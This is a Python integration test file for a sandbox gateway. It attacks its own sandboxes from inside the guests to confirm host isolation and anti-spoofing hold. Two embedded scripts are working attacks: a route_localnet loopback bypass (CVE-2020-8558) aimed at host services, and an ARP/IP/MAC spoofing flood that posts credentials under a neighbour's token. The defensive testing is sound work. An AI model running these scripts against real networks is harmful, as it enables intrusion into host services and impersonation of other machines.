"""Sandboxes that contain: host isolation and anti-spoofing, attacked from inside guests.

Every attack runs as root inside the guest's own network namespace, as a hostile guest
program would (issue 16, points 2 and 3):

* the ``route_localnet`` trick (CVE-2020-8558): the guest routes 127.0.0.0/8 via its
  gateway and connects to host services on 127.0.0.1 (one the test starts, and the
  gateway's own HTTP port), and to a host service on 0.0.0.0 through the bridge address;
  only the agent port may answer. The same from a kernel-mode attached target's
  namespace (its link has ``route_localnet`` on for the forward);
* address theft: sandbox A adds B's address (then B's MAC too) and floods gratuitous ARP
  while the test uses B's forward, desktop (VNC through the forward and through the
  WebSocket bridge) and A posts credentials as B with B's agent token; B keeps all of
  them and A's frames are counted as dropped.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from attachhelpers import HandMade, hand_made  # noqa: F401 - a fixture
from nethelpers import in_netns
from sandport.control.gateway import Gateway
from sandport.net import antispoof, nft
from sandport.probe import probe_rfb_tcp, probe_rfb_ws
from sandport.sandbox.procs import NSEXEC
from sandport.sandbox.profiles import desktop_name
from uphelpers import up_factory  # noqa: F401 - a fixture

pytestmark = pytest.mark.integration

#: Run as root inside a namespace: route 127.0.0.0/8 (and ``routes``) via ``via``, turn
#: route_localnet on, try every target at once; print what each answered, as JSON.
LOOPBACK_ATTACK = r"""
import json, socket, subprocess, sys, threading
via, targets, routes = sys.argv[1], json.loads(sys.argv[2]), json.loads(sys.argv[3])
def ip(*a): subprocess.run(["ip", *a], check=True, capture_output=True)
dev = json.loads(subprocess.run(["ip", "-j", "route", "get", via], check=True,
                                capture_output=True, text=True).stdout)[0]["dev"]
for name in ("all", dev):
    open(f"/proc/sys/net/ipv4/conf/{name}/route_localnet", "w").write("1")
ip("rule", "add", "pref", "1000", "lookup", "local")
ip("rule", "del", "pref", "0")
ip("route", "add", "127.0.0.0/8", "via", via, "dev", dev, "table", "100")
ip("rule", "add", "pref", "10", "to", "127.0.0.0/8", "lookup", "100")
for net in routes:
    ip("route", "add", net, "via", via, "dev", dev)
out = {}
def attempt(host, port):
    key = f"{host}:{port}"
    try:
        with socket.create_connection((host, port), timeout=2) as c:
            c.settimeout(1)
            try:
                out[key] = "open " + c.recv(64).decode(errors="replace")
            except OSError:
                out[key] = "open"
    except TimeoutError:
        out[key] = "timeout"
    except OSError as exc:
        out[key] = type(exc).__name__
try:
    threads = [threading.Thread(target=attempt, args=(h, p)) for h, p in targets]
    for t in threads: t.start()
    for t in threads: t.join()
finally:
    ip("rule", "add", "pref", "0", "lookup", "local")
    ip("rule", "del", "pref", "1000")
    ip("rule", "del", "pref", "10")
    for net in routes:
        ip("route", "del", net, "via", via, "dev", dev)
print(json.dumps(out))
"""

#: Run as root in sandbox A: take B's address (``mode`` mac: and B's MAC; A's own desktop
#: then answers on B's address), flood gratuitous ARP for it for ``seconds``, and post
#: credentials as B (B's agent token, from B's address). Prints the outcome as JSON.
SPOOF_ATTACK = r"""
import json, socket, struct, subprocess, sys, threading, time
(victim, prefix, victim_mac, gw_ip, gw_mac, agent_port, victim_id, token, seconds,
 mode) = sys.argv[1:]
def ip(*a): subprocess.run(["ip", *a], check=True, capture_output=True)
own_mac = json.loads(subprocess.run(["ip", "-j", "link", "show", "eth0"], check=True,
                                   capture_output=True, text=True).stdout)[0]["address"]
ip("addr", "add", f"{victim}/{prefix}", "dev", "eth0")
if mode == "mac":
    ip("link", "set", "eth0", "address", victim_mac)
mac = victim_mac if mode == "mac" else own_mac
out = {}
try:
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); raw.bind(("eth0", 0))
    b = lambda m: bytes.fromhex(m.replace(":", ""))
    a = socket.inet_aton
    def arp(dst, op, tha, tpa):
        return (b(dst) + b(mac) + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op)
                + b(mac) + a(victim) + b(tha) + a(tpa))
    frames = [arp("ff:ff:ff:ff:ff:ff", 1, "00:00:00:00:00:00", victim),  # gratuitous
              arp(gw_mac, 2, gw_mac, gw_ip)]  # and a reply to the gateway
    def post():
        body = json.dumps({"data": {"stolen": "yes"}}).encode()
        try:
            with socket.create_connection((gw_ip, int(agent_port)), timeout=3,
                                          source_address=(victim, 0)) as c:
                c.sendall(f"POST /api/sandboxes/{victim_id}/credentials HTTP/1.1\r\n"
                          f"Host: {gw_ip}\r\nAuthorization: Bearer {token}\r\n"
                          f"Content-Type: application/json\r\n"
                          f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
                          .encode() + body)
                c.settimeout(3)
                out["post"] = c.recv(64).decode(errors="replace").split("\r\n")[0]
        except OSError as exc:
            out["post"] = type(exc).__name__
    deadline = time.monotonic() + float(seconds)
    poster = None
    while time.monotonic() < deadline:
        for f in frames:
            raw.send(f)
        if poster is None and time.monotonic() > deadline - float(seconds) + 1.0:
            poster = threading.Thread(target=post); poster.start()
        time.sleep(0.1)
    if poster is not None:
        poster.join()
finally:
    if mode == "mac":
        ip("link", "set", "eth0", "address", own_mac)
    ip("addr", "del", f"{victim}/{prefix}", "dev", "eth0")
print(json.dumps(out), flush=True)
"""


@contextlib.contextmanager
def host_service(host: str) -> Iterator[int]:
    """A TCP service of the host on ``host`` that greets with ``host-secret``."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, 0))
    srv.listen(16)

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                conn, _ = srv.accept()
                with conn:
                    conn.sendall(b"host-secret")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield int(srv.getsockname()[1])
    finally:
        srv.close()


def attack_loopback(netns: str, via: str, targets: list[tuple[str, int]],
                    routes: tuple[str, ...] = ()) -> dict[str, str]:
    """Run :data:`LOOPBACK_ATTACK` in ``netns``: what each target answered."""
    r = in_netns(netns, Path("/tmp"), LOOPBACK_ATTACK, via, json.dumps(targets),
                 json.dumps(list(routes)))
    assert r.returncode == 0, r.stderr
    result: dict[str, str] = json.loads(r.stdout)
    return result


def agent_report(gw_ip: str, port: int, sandbox_id: str, token: str) -> str:
    """Code run in a sandbox: its agent report, with its own token, from its own address."""
    return (
        "import http.client, json\n"
        f"c = http.client.HTTPConnection({gw_ip!r}, {port}, timeout=5)\n"
        f"c.request('POST', '/api/sandboxes/{sandbox_id}/agent/report', body=b'{{}}',\n"
        f"          headers={{'Authorization': 'Bearer {token}',\n"
        "                    'Content-Type': 'application/json'})\n"
        "print(c.getresponse().status)\n")


def test_a_sandbox_reaches_no_host_service_but_the_agent_port(
        gateway_factory: Any, loop_thread: Any) -> None:
    gw: Gateway = gateway_factory()
    bridge, gw_ip = gw.config.net.bridge, str(gw.config.net.gateway_ip)
    info = loop_thread.run(gw.create_sandbox())  # a kernel VNC forward on 127.0.0.1
    assert Path(f"/proc/sys/net/ipv4/conf/{bridge}/route_localnet").read_text() == "1\n"
    before = nft.guard_drops(bridge)
    with host_service("127.0.0.1") as lo_port, host_service("0.0.0.0") as any_port:
        targets = [("127.0.0.1", lo_port), ("127.0.0.1", gw.http_port),
                   (gw_ip, any_port), (gw_ip, gw.http_port), (gw_ip, 22),
                   (gw_ip, gw.config.agent_port)]
        got = attack_loopback(f"sp-{info.id}", gw_ip, targets)
        # Nothing answers, not even with a reset: the packets are dropped.
        for host, port in targets[:-1]:
            assert got[f"{host}:{port}"] == "timeout", got
        assert got[f"{gw_ip}:{gw.config.agent_port}"].startswith("open"), got
        # The host itself still reaches them all.
        with socket.create_connection(("127.0.0.1", lo_port), timeout=2) as c:
            assert c.recv(16) == b"host-secret"
    after = nft.guard_drops(bridge)
    assert after[nft.localnet_comment(bridge)] >= before[nft.localnet_comment(bridge)] + 2
    assert after[nft.host_comment(bridge)] >= before[nft.host_comment(bridge)] + 3
    # The agent port still works for the sandbox's own agent identity.
    token = gw.roster[info.id].spec.secrets["agent_token"]
    r = in_netns(f"sp-{info.id}", Path("/tmp"), agent_report(
        gw_ip, gw.config.agent_port, info.id, token))
    assert r.stdout.strip() == "204", r.stderr
    # Readiness stays green and the doctor names the drops.
    report = loop_thread.run(gw.doctor(info.id))
    assert report.healthy, [r for r in report.rows if r.status != "ok"]
    row = next(r for r in report.rows if r.check == "host isolation")
    assert row.status == "ok" and "127.0.0.0/8" in row.evidence, row
    assert gw.info(info.id).state == "ready"
    loop_thread.run(gw.destroy_sandbox(info.id))


def test_a_kernel_mode_attached_target_reaches_no_host_loopback(
        gateway_factory: Any, loop_thread: Any, hand_made: HandMade) -> None:
    gw: Gateway = gateway_factory(attach_subnets=(hand_made.network,))
    gw_ip = str(gw.config.net.gateway_ip)
    info = loop_thread.run(gw.attach(ip=hand_made.ip, vnc_password=hand_made.password,
                                     forward_mode="kernel"))
    link = hand_made.host_link
    assert Path(f"/proc/sys/net/ipv4/conf/{link}/route_localnet").read_text() == "1\n"
    via = str(hand_made.network.network_address + 1)
    with host_service("127.0.0.1") as lo_port, host_service("0.0.0.0") as any_port:
        targets = [("127.0.0.1", lo_port), ("127.0.0.1", gw.http_port), (gw_ip, any_port),
                   (gw_ip, gw.config.agent_port)]
        got = attack_loopback(hand_made.netns, via, targets,
                              routes=(str(gw.config.net.subnet),))
    assert all(v == "timeout" for v in got.values()), got
    drops = nft.guard_drops(gw.config.net.bridge)
    assert drops[nft.localnet_comment(link)] >= 2
    assert drops[nft.GUARD_COMMENTS["elsewhere"]] >= 2
    # The kernel forward from 127.0.0.1 to the target still serves (its replies are
    # de-NATed to 127.0.0.1 on that link).
    result = asyncio.run(probe_rfb_tcp("127.0.0.1", info.vnc_port,
                                       password=hand_made.password, timeout=5))
    assert result.ok, result
    loop_thread.run(gw.destroy_sandbox(info.id))
    assert nft.localnet_comment(link) not in nft.guard_drops(gw.config.net.bridge)


def _bridge_mac(bridge: str) -> str:
    return Path(f"/sys/class/net/{bridge}/address").read_text().strip()


def _neighbour(bridge: str, ip: str) -> str:
    out = subprocess.run(["ip", "-j", "neigh", "show", ip, "dev", bridge],
                         capture_output=True, text=True, check=True).stdout
    entries = json.loads(out or "[]")
    return str(entries[0].get("lladdr", "")) if entries else ""


def test_a_sandbox_with_its_neighbours_address_takes_nothing_over(
        gateway_factory: Any, loop_thread: Any) -> None:
    gw: Gateway = gateway_factory()
    bridge, gw_ip = gw.config.net.bridge, str(gw.config.net.gateway_ip)
    a = loop_thread.run(gw.create_sandbox())
    b = loop_thread.run(gw.create_sandbox(session_ttl=600))
    session = gw.sessions(b.id)[0]
    b_mac, b_token = antispoof.sandbox_mac(b.id), gw.roster[b.id].spec.secrets["agent_token"]
    # Each sandbox's guest NIC has the MAC sandport gave it; the rules name it.
    guarded = antispoof.guarded(bridge)
    assert guarded[f"sp-{b.id}-v"] == (b_mac, b.ip)
    assert guarded[f"sp-{a.id}-v"] == (antispoof.sandbox_mac(a.id), a.ip)
    assert _neighbour(bridge, b.ip) in ("", b_mac)
    ws = f"{gw.ws_base}/s/{b.id}/ports/vnc/ws?token={b.token}"
    for mode, seconds in (("ip", 6), ("mac", 4)):
        before = antispoof.spoofed(bridge)[f"sp-{a.id}-v"]
        attack = subprocess.Popen(
            [sys.executable, "-I", "-S", str(NSEXEC), f"sp-{a.id}", "/tmp", "--",
             sys.executable, "-I", "-c", SPOOF_ATTACK, b.ip,
             str(gw.config.net.subnet.prefixlen), b_mac, gw_ip, _bridge_mac(bridge),
             str(gw.config.agent_port), b.id, b_token, str(seconds), mode],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            time.sleep(1.5)  # the ARP flood is on
            for _ in range(3):
                # B's forward (kernel DNAT to B's address) and the bridge reach B's desktop.
                direct = asyncio.run(probe_rfb_tcp("127.0.0.1", b.vnc_port,
                                                   password=b.vnc_password, timeout=3))
                assert direct.ok and direct.desktop == desktop_name(b.id), (mode, direct)
                bridged = asyncio.run(probe_rfb_ws(ws, password=b.vnc_password, timeout=3))
                assert bridged.ok and bridged.desktop == desktop_name(b.id), (mode, bridged)
                assert _neighbour(bridge, b.ip) == b_mac, mode
                time.sleep(0.3)
            out, err = attack.communicate(timeout=30)
        finally:
            if attack.poll() is None:
                attack.kill()
                attack.wait()
        assert attack.returncode == 0, err
        # A could not speak as B to the agent port: no answer from B's address.
        assert json.loads(out)["post"] in ("TimeoutError", "timeout"), (mode, out)
        after = antispoof.spoofed(bridge)[f"sp-{a.id}-v"]
        if mode == "ip":  # its own MAC, B's address: ARP and IPv4 dropped
            assert after["arp"] > before["arp"] + 10 and after["ip"] > before["ip"], after
        else:  # B's MAC: every frame dropped before the bridge learns it
            assert after["mac"] > before["mac"] + 10, after
    # B's agent identity is untouched: nothing was stored, its session is open and its
    # own agent completes it.
    assert gw.credentials(b.id) == []
    assert gw.session(session.id).state == "ready"
    r = in_netns(f"sp-{b.id}", Path("/tmp"), agent_report(
        gw_ip, gw.config.agent_port, b.id, b_token))
    assert r.stdout.strip() == "204", r.stderr
    # The doctor sees A's spoofing on its port; B is healthy.
    report = loop_thread.run(gw.doctor(a.id))
    row = next(r for r in report.rows if r.check == "anti-spoofing")
    assert row.status == "warn" and "dropped" in row.evidence, row
    assert loop_thread.run(gw.doctor(b.id)).healthy
    for sb in (a, b):
        loop_thread.run(gw.destroy_sandbox(sb.id))
    assert antispoof.guarded(bridge) == {}


def test_a_start_that_fails_with_no_sandbox_leaves_no_guard_behind(
        up_factory: Any, tmp_path: Path) -> None:
    """A failed start keeps the guard only for sandboxes it leaves running: none here."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        up = up_factory("--listen", f"127.0.0.1:{taken.getsockname()[1]}",
                        state_dir=tmp_path / "state")
        _, stderr = up.proc.communicate(timeout=60)
    assert up.proc.returncode == 2 and "already in use" in stderr, stderr
    assert nft.own_chains(up.bridge) == [] and antispoof.own_chains(up.bridge) == []
